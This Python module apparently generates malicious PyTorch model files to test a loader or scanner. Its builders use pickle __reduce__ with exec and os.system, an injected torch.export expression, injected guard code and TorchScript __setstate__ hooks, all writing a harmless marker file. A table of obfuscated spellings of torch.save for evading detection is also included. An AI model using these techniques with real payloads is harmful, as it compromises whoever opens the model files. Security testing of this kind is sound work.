"""Model files that attack whoever opens them. Each one, when it runs, writes the file `target`."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from pathlib import Path

Change = Callable[[str, bytes], bytes]


class Writes:
    """Unpickling this runs Python."""

    def __init__(self, target: Path) -> None:
        self.code = f"open({str(target)!r}, 'w').write('x')"

    def __reduce__(self) -> tuple[object, ...]:
        return exec, (self.code,)


class Runs:
    """Unpickling this runs a shell command."""

    def __init__(self, target: Path) -> None:
        self.command = f"touch {target}"

    def __reduce__(self) -> tuple[object, ...]:
        import os

        return os.system, (self.command,)


def blob(value: object, *, zipped: bool = True) -> bytes:
    import torch

    buffer = io.BytesIO()
    torch.save(value, buffer, _use_new_zipfile_serialization=zipped)
    return buffer.getvalue()


def rewrite(source: Path, path: Path, change: Change) -> Path:
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(path, "w") as new:
        for entry in old.infolist():
            new.writestr(entry.filename, change(entry.filename, old.read(entry)))
    return path


def sample_inputs(target: Path) -> Change:
    return lambda name, data: blob(((Writes(target),), {})) if "sample_inputs" in name else data


def weight(target: Path) -> Change:
    def change(name: str, data: bytes) -> bytes:
        if name.endswith("weights_config.json"):
            config = json.loads(data)
            next(iter(config["config"].values()))["use_pickle"] = True
            return json.dumps(config).encode()
        return blob(Runs(target)) if name.endswith("/weight_0") else data

    return change


def expression(target: Path) -> Change:
    def change(name: str, data: bytes) -> bytes:
        if not name.endswith("models/model.json"):
            return data
        program = json.loads(data)
        symbol = next(iter(program["range_constraints"]))
        honest = f"Symbol('{symbol}', positive=True, integer=True)"
        evil = f"Integer(open('{target}', 'w').write('x'))"
        assert honest in data.decode(), "the layout of torch.export's files has changed"
        return data.replace(honest.encode(), evil.encode())

    return change


def guard(target: Path) -> Change:
    def change(name: str, data: bytes) -> bytes:
        if not name.endswith("models/model.json"):
            return data
        return json.dumps(json.loads(data) | {"guards_code": [f"open('{target}', 'w') is None"]}).encode()

    return change


PROGRAMS: dict[str, Callable[[Path], Change]] = {
    "sample_inputs": sample_inputs,
    "weight": weight,
    "expression": expression,
    "guard": guard,
}


def script_on_load(path: Path, target: Path) -> Path:
    """TorchScript that writes a file when it is loaded."""
    import torch

    class OnLoad(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.path = str(target)
            self.value = torch.ones(2)

        @torch.jit.export
        def __getstate__(self):  # type: ignore[no-untyped-def]
            return (self.path, self.value, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[str, torch.Tensor, bool]) -> None:
            self.path = state[0]
            self.value = state[1]
            self.training = state[2]
            torch.save(self.value, self.path)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x

    torch.jit.save(torch.jit.script(OnLoad()), path)
    return path


def script_on_run(path: Path, target: Path) -> Path:
    """TorchScript that makes a file when it is run."""
    import torch

    class OnRun(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.path = str(target)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + torch.from_file(self.path, shared=True, size=1)[0]

    torch.jit.save(torch.jit.script(OnRun()), path)
    return path


SCRIPTS: dict[str, Callable[[Path, Path], Path]] = {"on_load": script_on_load, "on_run": script_on_run}

# Ways to write the call in TorchScript that torch reads alike.
SPELLINGS: dict[str, str] = {
    "space": "torch.save (",
    "spaced_dot": "torch . save(",
    "continued_line": "torch.\\\nsave(",
    "comment": 'torch.save( # "\n ',
    "after_a_text": '_s = """ \' # """\n    torch.save(',
    "after_a_quote": "_s = '\"'\n    torch.save(",
    "other_name": "write = torch.save\n    write(",
    "by_text": 'getattr(torch, "save")(',
    "by_two_texts": "getattr(torch, \"sa\" 've')(",
    "by_escapes": 'getattr(torch, "\\163ave")(',
    "by_namespace": "ops.aten.save(",
    "by_namespace_text": 'getattr(ops, "aten").save(',
}


def respelled(source: Path, path: Path, spelling: str) -> Path:
    """Write `source`, by `script_on_load`, with its call spelled in another way."""
    call, other = b"torch.save(", spelling.encode()
    return rewrite(
        source, path, lambda name, data: data.replace(call, other) if name.endswith(".py") else data
    )
